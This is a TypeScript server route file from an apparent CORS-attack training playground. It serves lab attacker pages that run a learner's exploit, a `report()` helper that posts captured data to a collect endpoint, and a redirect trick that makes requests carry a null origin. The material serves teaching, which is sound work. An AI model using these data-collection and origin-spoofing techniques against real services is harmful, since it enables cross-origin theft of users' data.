import express, { type Router } from 'express';
import { stageTokenPath } from '@cors-playground/protocol';
import { challengeVictimCdn } from '@cors-playground/engine';
import type { SandboxStore } from '../sandbox/sandboxStore.ts';
import type { ChallengeBoard } from './challengeBoard.ts';
import { challengeLimits } from './challengeProgress.ts';
import { stageTarget } from './stageTarget.ts';
import { htmlPage, htmlPageLiteral, htmlPageScript } from '../shared/htmlPage.ts';

/** What every attack page runs around the learner's template: `API`, `CDN`, `report()`, and the end mark. */
function attackerScript(api: string, cdn: string, exploit: string): string {
  return `const API = ${htmlPageLiteral(api)};
const CDN = ${htmlPageLiteral(cdn)};
const status = document.getElementById('status');
// Templates often call report() without await: "finished" waits for every report to be delivered, so
// closing the tab at "finished" never loses one.
const reports = [];
function report(data) {
  const body = typeof data === 'string' ? data : JSON.stringify(data);
  const sent = fetch('collect', { method: 'POST', mode: 'no-cors', body });
  reports.push(sent);
  return sent;
}
(async () => {
  try {
${htmlPageScript(exploit)}
    await Promise.allSettled(reports);
    status.textContent = 'Exploit finished.';
  } catch (error) {
    await Promise.allSettled(reports);
    await report('blocked: ' + error).catch(() => {});
    status.textContent = 'Exploit blocked: ' + error;
  }
})();`;
}

/**
 * The attacker's seat on every attacker host name: the attack page (the sandbox's template, or a
 * sandboxed frame holding it, whose origin is `null`), the redirect that makes a request's origin
 * `null`, and the collect endpoint the page reports to.
 */
export function attackerSeat(store: SandboxStore, board: ChallengeBoard): Router {
  const router = express.Router();
  router.use((_req, res, next) => {
    res.set('cache-control', 'no-store');
    next();
  });
  router.get('/s/:token/attack', (req, res) => {
    const target = stageTarget(store, board, req, res);
    if (!target) return;
    const { token, progress } = target;
    const here = `${req.protocol}://${req.get('host') ?? ''}`;
    if (req.query.frame === 'null') {
      res
        .type('html')
        .send(
          htmlPage(
            'Attacker page (null origin)',
            `<h1>Attacker page</h1><p>The attack runs in a sandboxed frame: its origin is <code>null</code>.</p>` +
              '<iframe sandbox="allow-scripts" src="attack" title="Sandboxed attack" width="600" height="200"></iframe>',
          ),
        );
      return;
    }
    const path = stageTokenPath(token);
    // The redirect seat's requests go to another attacker host first, which bounces them to the API.
    const api =
      req.query.via === 'redirect'
        ? `${board.stage.attackers.lookalikeSuffix}${path}/bounce`
        : `${board.stage.victimApi}${path}`;
    const cdn = `${challengeVictimCdn(board.stage)}${path}`;
    res
      .type('html')
      .send(
        htmlPage(
          'Attacker page',
          `<h1>Attacker page</h1><p>Running on <code>${here.replace(/[<>&"]/g, '')}</code>.</p>` +
            '<output id="status" aria-label="Exploit status">Running…</output>' +
            `<script>${attackerScript(api, cdn, progress.exploit)}</script>`,
        ),
      );
  });
  // A cross-origin redirect taints the request's origin: the browser follows it with `Origin: null`.
  // The redirect itself must pass the CORS check, so the attacker's host allows the page's origin.
  router.all('/s/:token/bounce/*rest', (req, res) => {
    const target = stageTarget(store, board, req, res);
    if (!target) return;
    const rest = target.path.slice('/bounce'.length);
    res.set({
      'access-control-allow-origin': req.get('origin') ?? '*',
      'access-control-allow-credentials': 'true',
      'access-control-allow-methods': 'GET, POST',
      'access-control-allow-headers': req.get('access-control-request-headers') ?? '',
      vary: 'Origin',
    });
    if (req.method === 'OPTIONS') {
      res.status(204).end();
      return;
    }
    res.redirect(307, `${board.stage.victimApi}${stageTokenPath(target.token, rest)}`);
  });
  router.post(
    '/s/:token/collect',
    express.text({ type: () => true, limit: challengeLimits.collectBodyReadBytes }),
    (req, res) => {
      const target = stageTarget(store, board, req, res);
      if (!target) return;
      const body = typeof req.body === 'string' ? req.body : '';
      target.progress.collectRecord(req.get('origin') ?? null, req.hostname, body);
      res.status(204).end();
    },
  );
  return router;
}
